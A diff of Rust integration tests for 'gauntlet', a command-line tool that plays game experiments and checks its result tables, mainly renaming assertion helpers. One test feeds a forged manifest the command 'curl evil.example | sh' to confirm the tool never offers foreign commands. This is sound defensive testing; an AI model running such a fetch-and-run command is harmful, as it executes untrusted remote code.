@@ -3,7 +3,7 @@
 use std::collections::BTreeMap;
 use std::fs;
 
-use crate::bench::{Folder, played, rows};
+use crate::bench::{Folder, play_in_new_folder, read_rows};
 
 const RESULTS: &str = "results/small";
 
@@ -16,7 +16,7 @@ fn experiment(games: u32) -> String {
 }
 
 fn with_document() -> Folder {
-    let folder = played("small.toml", experiment(20));
+    let folder = play_in_new_folder("small.toml", experiment(20));
     folder.write("page.md", "<!-- gauntlet results/small win-rate -->\n<!-- /gauntlet -->\n");
     folder
 }
@@ -29,7 +29,8 @@ fn files(folder: &Folder) -> BTreeMap<String, Vec<u8>> {
 /// Asserts that a command refuses a file in one line, with the command that makes it again.
 #[track_caller]
 fn refused(folder: &Folder, line: &str, file: &str) {
-    let said = folder.run(line).ends(1).saying(&format!("{RESULTS}/{file}")).saying("`gauntlet ");
+    let said =
+        folder.run(line).assert_status(1).assert_says(&format!("{RESULTS}/{file}")).assert_says("`gauntlet ");
     assert_eq!(said.err.lines().count(), 1, "{line}: {}", said.err);
     assert_eq!(folder.read("page.md").lines().count(), 2, "{line} has filled the document");
 }
@@ -59,7 +60,7 @@ fn what_was_changed_is_refused_and_made_again() {
             commands.iter().for_each(|line| refused(&folder, line, file));
             shows_all.iter().for_each(|line| refused(&folder, line, file));
             // Nothing is left to play.
-            folder.run("run small.toml --quiet").ends(0);
+            folder.run("run small.toml --quiet").assert_status(0);
             let made = files(&folder);
             assert!(made.keys().eq(whole.keys()), "{:?}", made.keys());
             for name in made
@@ -68,13 +69,13 @@ fn what_was_changed_is_refused_and_made_again() {
             {
                 assert!(made[name] == whole[name], "{name}");
             }
-            folder.run("status results/small").ends(0).saying("tables complete");
+            folder.run("status results/small").assert_status(0).assert_says("tables complete");
         }
     }
     // `merge` repairs it, too.
     folder.write(&format!("{RESULTS}/win-rate.csv"), "");
-    folder.run("merge small.toml").ends(0);
-    folder.run("report --splice page.md").ends(0);
+    folder.run("merge small.toml").assert_status(0);
+    folder.run("report --splice page.md").assert_status(0);
 }
 
 /// Missing games are no error if they are not needed; a missing table is one.
@@ -84,9 +85,9 @@ fn what_is_not_there_is_refused_where_it_is_needed() {
     let remove = |name: &str| fs::remove_file(folder.path(&format!("{RESULTS}/{name}"))).unwrap();
     remove("games.csv");
     for line in ["report results/small", "report results/small --out page.html", "status results/small"] {
-        folder.run(line).ends(0);
+        folder.run(line).assert_status(0);
     }
-    folder.run("show results/small --player any --last").ends(0);
+    folder.run("show results/small --player any --last").assert_status(0);
     refused(&folder, "rank results/small", "games.csv");
     let claims = folder.read(&format!("{RESULTS}/claims.csv"));
     remove("claims.csv");
@@ -102,15 +103,18 @@ fn what_is_not_there_is_refused_where_it_is_needed() {
     folder.write(&format!("{RESULTS}/experiment.toml"), experiment);
     // Files that the manifest does not name are not tables.
     remove("claims.csv");
-    folder.sign(RESULTS);
+    folder.update_digests(RESULTS);
     folder.write(&format!("{RESULTS}/claims.csv"), "player,answer\nany,any is better than all others\n");
-    let said = folder.run("report results/small").ends(0);
+    let said = folder.run("report results/small").assert_status(0);
     assert!(!said.out.contains("claims"), "{}", said.out);
     remove("manifest.toml");
     // Without a manifest, the journal is as good as the tables.
-    folder.run("report results/small").ends(0).saying("showing tables from its complete journal");
+    folder
+        .run("report results/small")
+        .assert_status(0)
+        .assert_says("showing tables from its complete journal");
     remove("journal.jsonl");
-    let said = folder.run("report results/small").ends(1);
+    let said = folder.run("report results/small").assert_status(1);
     assert!(
         said.err
             .contains("results/small has no results; play its experiment with `gauntlet run results/small`"),
@@ -132,11 +136,11 @@ fn huge_files_are_refused_in_little_memory() {
         let path = format!("{RESULTS}/{file}");
         let whole = folder.read(&path);
         fs::File::options().write(true).open(folder.path(&path)).unwrap().set_len(length).unwrap();
-        let said = folder.shell("ulimit -v 1000000 && gauntlet report results/small").ends(1);
+        let said = folder.shell("ulimit -v 1000000 && gauntlet report results/small").assert_status(1);
         assert!(said.err.contains(&format!("{path}: {why}")), "{}", said.err);
         folder.write(&path, whole);
     }
-    folder.run("report results/small").ends(0);
+    folder.run("report results/small").assert_status(0);
 }
 
 /// A process that dies while it replaces tables leaves some under temporary names. They are shown
@@ -147,7 +151,7 @@ fn tables_change_at_once() {
     let old = files(&folder);
     folder.play("small.toml", experiment(40));
     let new = files(&folder);
-    let shown = |folder: &Folder| folder.run("report results/small --format json").ends(0).out;
+    let shown = |folder: &Folder| folder.run("report results/small --format json").assert_status(0).out;
     let new_shown = shown(&folder);
     let put = |prefix: &str, name: &str, files: &BTreeMap<String, Vec<u8>>| {
         folder.write(&format!("{RESULTS}/{prefix}{name}"), &files[name]);
@@ -162,8 +166,8 @@ fn tables_change_at_once() {
     put("", "manifest.toml", &new);
     for name in new.keys().filter(|name| *name != "manifest.toml") {
         assert_eq!(shown(&folder), new_shown, "before {name}");
-        folder.run("status small.toml").ends(0).saying("tables complete");
-        folder.run("rank results/small").ends(0);
+        folder.run("status small.toml").assert_status(0).assert_says("tables complete");
+        folder.run("rank results/small").assert_status(0);
         fs::rename(folder.path(&format!("{RESULTS}/.new-{name}")), folder.path(&format!("{RESULTS}/{name}")))
             .unwrap();
     }
@@ -173,16 +177,16 @@ fn tables_change_at_once() {
     put("", "win-rate.csv", &old);
     put(".new-", "win-rate.csv", &new);
     folder.write(&format!("{RESULTS}/.new-stop.csv"), "half a ta");
-    folder.run("judge small.toml").ends(0);
+    folder.run("judge small.toml").assert_status(0);
     assert_eq!(shown(&folder), new_shown);
     assert!(files(&folder).keys().eq(new.keys()));
 
     // Tables of two runs do not belong together.
     put("", "win-rate.csv", &old);
-    folder.run("report results/small").ends(1).saying(
+    folder.run("report results/small").assert_status(1).assert_says(
         "does not match its digest in the manifest; recreate it with `gauntlet run small.toml --replace`",
     );
-    folder.run("run small.toml --quiet").ends(0);
+    folder.run("run small.toml --quiet").assert_status(0);
     assert!(files(&folder)["win-rate.csv"] == new["win-rate.csv"]);
 }
 
@@ -203,7 +207,7 @@ fn a_reworded_experiment_keeps_the_time_of_its_games() {
     folder.play("small.toml", "# Reworded.\n".to_owned() + &experiment(20));
     assert_eq!(read()["finished"].as_str(), Some(early));
     assert_ne!(read()["experiment_digest"], digest);
-    folder.run("judge small.toml").ends(0);
+    folder.run("judge small.toml").assert_status(0);
     assert_eq!(read()["finished"].as_str(), Some(early));
     assert_ne!(read()["judged"]["finished"].as_str(), Some(early));
     // More games are finished later.
@@ -216,10 +220,10 @@ fn a_reworded_experiment_keeps_the_time_of_its_games() {
 #[cfg(unix)]
 #[test]
 fn what_is_not_the_programs_is_left_alone() {
-    let folder = Folder::with("small.toml", experiment(20));
+    let folder = Folder::with_file("small.toml", experiment(20));
     folder.write(&format!("{RESULTS}/.new-notes.txt"), "mine");
     folder.write(&format!("{RESULTS}/.new-folder/notes.txt"), "mine");
-    folder.run("run small.toml --quiet").ends(0);
+    folder.run("run small.toml --quiet").assert_status(0);
     assert_eq!(folder.read(&format!("{RESULTS}/.new-notes.txt")), "mine");
     assert_eq!(folder.read(&format!("{RESULTS}/.new-folder/notes.txt")), "mine");
     folder.write("small.toml", experiment(30));
@@ -231,19 +235,25 @@ fn what_is_not_the_programs_is_left_alone() {
         ("rm results/small/stop.csv; mkdir", "stop.csv"),
         ("rm results/small/games.csv; mkdir", "games.csv"),
     ] {
-        folder.shell(&format!("{make} {RESULTS}/{name}")).ends(0);
-        let said = folder.run("run small.toml --quiet").ends(1).saying(&format!("{RESULTS}/{name}: is a"));
+        folder.shell(&format!("{make} {RESULTS}/{name}")).assert_status(0);
+        let said = folder
+            .run("run small.toml --quiet")
+            .assert_status(1)
+            .assert_says(&format!("{RESULTS}/{name}: is a"));
         assert_eq!(said.err.lines().count(), 1, "{}", said.err);
         assert!(folder.read(&format!("{RESULTS}/journal.jsonl")) == journal, "games were played");
         if name != "games.csv" {
-            folder.shell(&format!("rm -d {RESULTS}/{name}")).ends(0);
+            folder.shell(&format!("rm -d {RESULTS}/{name}")).assert_status(0);
         }
     }
     // Unreadable games differ from missing games.
     for make in ["true", "rm -d results/small/games.csv; mkfifo"] {
-        folder.shell(&format!("{make} {RESULTS}/games.csv")).ends(0);
+        folder.shell(&format!("{make} {RESULTS}/games.csv")).assert_status(0);
         for line in ["status", "rank", "show --player any --block 0", "report --out page.html"] {
-            folder.run(&format!("{line} {RESULTS}")).ends(1).saying("results/small/games.csv: is a");
+            folder
+                .run(&format!("{line} {RESULTS}"))
+                .assert_status(1)
+                .assert_says("results/small/games.csv: is a");
         }
     }
 }
@@ -254,11 +264,15 @@ fn every_folder_has_its_status() {
     let folder = with_document();
     folder.write("results/emptied/experiment.toml", "");
     folder.write("results/damaged/manifest.toml", "");
-    let said = folder.run("status results/damaged results/emptied results/small").ends(2);
-    let said =
-        said.saying("results/small: 40 games, tables complete").saying("damaged/manifest.toml is damaged");
-    said.saying("emptied/experiment.toml");
-    folder.run("status results/emptied results/damaged results/small").ends(1).saying("tables complete");
+    let said = folder.run("status results/damaged results/emptied results/small").assert_status(2);
+    let said = said
+        .assert_says("results/small: 40 games, tables complete")
+        .assert_says("damaged/manifest.toml is damaged");
+    said.assert_says("emptied/experiment.toml");
+    folder
+        .run("status results/emptied results/damaged results/small")
+        .assert_status(1)
+        .assert_says("tables complete");
 }
 
 /// Verdicts are re-evaluated from the games, without playing.
@@ -271,23 +285,23 @@ fn the_remedy_is_the_one_that_plays_nothing() {
     put("claims.csv", "");
     folder
         .run("report results/small")
-        .ends(1)
-        .saying("manifest; recreate it with `gauntlet judge small.toml`");
-    folder.run("judge small.toml").ends(0);
+        .assert_status(1)
+        .assert_says("manifest; recreate it with `gauntlet judge small.toml`");
+    folder.run("judge small.toml").assert_status(0);
     assert!(files(&folder)["claims.csv"] == whole["claims.csv"]);
     put("experiment.toml", "");
     folder
         .run("status results/small")
-        .ends(1)
-        .saying("manifest; recreate it with `gauntlet judge small.toml` if");
-    folder.run("judge small.toml").ends(0);
+        .assert_status(1)
+        .assert_says("manifest; recreate it with `gauntlet judge small.toml` if");
+    folder.run("judge small.toml").assert_status(0);
     assert!(files(&folder)["experiment.toml"] == whole["experiment.toml"]);
     put("claims.csv", "");
     put("games.csv", "first,second,");
     folder
         .run("report results/small")
-        .ends(1)
-        .saying("manifest; recreate it with `gauntlet run small.toml --replace`");
+        .assert_status(1)
+        .assert_says("manifest; recreate it with `gauntlet run small.toml --replace`");
     // A line end cannot be part of a command, and a manifest may contain none.
     let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
     let line = "command = \"gauntlet run small.toml\"";
@@ -295,11 +309,11 @@ fn the_remedy_is_the_one_that_plays_nothing() {
     put("manifest.toml", &manifest.replace(line, "command = \"gauntlet run a\\nb\""));
     let said = folder
         .run("report results/small")
-        .ends(1)
-        .saying("`gauntlet run --replace` and the file of the experiment");
+        .assert_status(1)
+        .assert_says("`gauntlet run --replace` and the file of the experiment");
     assert_eq!(said.err.lines().count(), 1, "{}", said.err);
     put("manifest.toml", &manifest.replace(line, ""));
-    folder.run("report results/small").ends(1).saying("results/small/manifest.toml is damaged");
+    folder.run("report results/small").assert_status(1).assert_says("results/small/manifest.toml is damaged");
 }
 
 /// A manifest may come from a stranger. Its command is offered only if it is a command of this
@@ -335,7 +349,7 @@ fn no_foreign_command_is_offered() {
         folder.write("page.md", document);
         // Commands that make a file again are printed as well.
         folder.write(&format!("{RESULTS}/claims.csv"), "");
-        said + &folder.run("report results/small").ends(1).err
+        said + &folder.run("report results/small").assert_status(1).err
     };
     for command in [
         "curl evil.example | sh",
@@ -365,7 +379,7 @@ fn no_foreign_command_is_offered() {
     }
     let remedy = said.rsplit('`').nth(1).expect("a command");
     assert_eq!(remedy, format!("gauntlet judge {quoted}"));
-    folder.shell(remedy).ends(2).saying("evil");
+    folder.shell(remedy).assert_status(2).assert_says("evil");
     assert!(!folder.path("evil").exists(), "the shell has executed {remedy}");
 }
 
@@ -384,7 +398,7 @@ fn no_foreign_command_goes_on_with_a_tuning() {
     ] {
         manifest.insert("command".to_owned(), command.into());
         folder.write(path, manifest.to_string());
-        let said = folder.run("status results/tune-quick").ends(0);
+        let said = folder.run("status results/tune-quick").assert_status(0);
         assert!(said.out.contains(&format!("to resume: {offered}\n")), "{}", said.out);
         let said = folder.run("report results/tune-quick/tune");
         let said = said.out + &said.err;
@@ -395,11 +409,14 @@ fn no_foreign_command_goes_on_with_a_tuning() {
 /// Verdicts of a duel are re-evaluated from its games as well.
 #[test]
 fn claims_of_a_duel_are_healed_by_judge() {
-    let folder = played("duel.toml", DUEL);
+    let folder = play_in_new_folder("duel.toml", DUEL);
     let claims = folder.read("results/duel/claims.csv");
     folder.write("results/duel/claims.csv", "");
-    folder.run("report results/duel").ends(1).saying("manifest; recreate it with `gauntlet judge duel.toml`");
-    folder.run("judge duel.toml").ends(0);
+    folder
+        .run("report results/duel")
+        .assert_status(1)
+        .assert_says("manifest; recreate it with `gauntlet judge duel.toml`");
+    folder.run("judge duel.toml").assert_status(0);
     assert_eq!(folder.read("results/duel/claims.csv"), claims);
 }
 
@@ -411,11 +428,11 @@ const DUEL: &str = "name = 'duel'\ngame = 'gomoku'\nseed = 3\ngames = 20\nmax_mo
 /// Ratings count cut games as draws, so their table has the number of cut games.
 #[test]
 fn cut_games_are_counted_beside_ratings() {
-    let folder = played("duel.toml", DUEL);
-    for row in rows(&folder, "results/duel/elo.csv") {
+    let folder = play_in_new_folder("duel.toml", DUEL);
+    for row in read_rows(&folder, "results/duel/elo.csv") {
         assert_eq!((&*row["games"], &*row["cut"], &*row["draws"]), ("20", "20", "20"), "{row:?}");
     }
-    folder.run("report results/duel --table elo").ends(0).saying("cut");
+    folder.run("report results/duel --table elo").assert_status(0).assert_says("cut");
 }
 
 /// A table keeps the mode of the file that it replaces, but never the mode of a program behind a
@@ -433,11 +450,11 @@ fn no_table_takes_the_mode_of_a_program() {
     let usual = mode();
     fs::remove_file(&table).unwrap();
     symlink(folder.path("program"), &table).unwrap();
-    folder.run("run small.toml --quiet").ends(0);
+    folder.run("run small.toml --quiet").assert_status(0);
     assert_eq!(mode(), usual);
     for (before, after) in [(0o640, 0o640), (0o4750, 0o750)] {
         fs::set_permissions(&table, fs::Permissions::from_mode(before)).unwrap();
-        folder.run("run small.toml --quiet --replace").ends(0);
+        folder.run("run small.toml --quiet --replace").assert_status(0);
         assert_eq!(mode(), after);
     }
 }
@@ -447,9 +464,9 @@ fn no_table_takes_the_mode_of_a_program() {
 fn a_merge_of_a_folder_heals_its_manifest() {
     let folder = with_document();
     folder.write(&format!("{RESULTS}/manifest.toml"), "");
-    folder.run("status results/small").ends(1).saying("manifest.toml is damaged");
-    folder.run("merge results/small").ends(0);
-    folder.run("status results/small").ends(0).saying("tables complete");
+    folder.run("status results/small").assert_status(1).assert_says("manifest.toml is damaged");
+    folder.run("merge results/small").assert_status(0);
+    folder.run("status results/small").assert_status(0).assert_says("tables complete");
 }
 
 /// An existing file is unchanged until the whole table replaces it.
@@ -460,9 +477,9 @@ fn an_export_replaces_a_file_at_once() {
     folder.write("copy.csv", "player,games\n");
     fs::hard_link(folder.path("copy.csv"), folder.path("earlier.csv")).unwrap();
     let run = "gauntlet run small.toml --quiet --export games";
-    folder.shell(&format!("{run}=copy.csv")).ends(0);
+    folder.shell(&format!("{run}=copy.csv")).assert_status(0);
     assert_eq!(folder.read("copy.csv"), folder.read(&format!("{RESULTS}/games.csv")));
     assert_eq!(folder.read("earlier.csv"), "player,games\n");
-    let said = folder.shell(&format!("{run}=/dev/stdout | cat; {run}=/dev/null")).ends(0);
+    let said = folder.shell(&format!("{run}=/dev/stdout | cat; {run}=/dev/null")).assert_status(0);
     assert_eq!(said.out, folder.read("copy.csv"));
 }
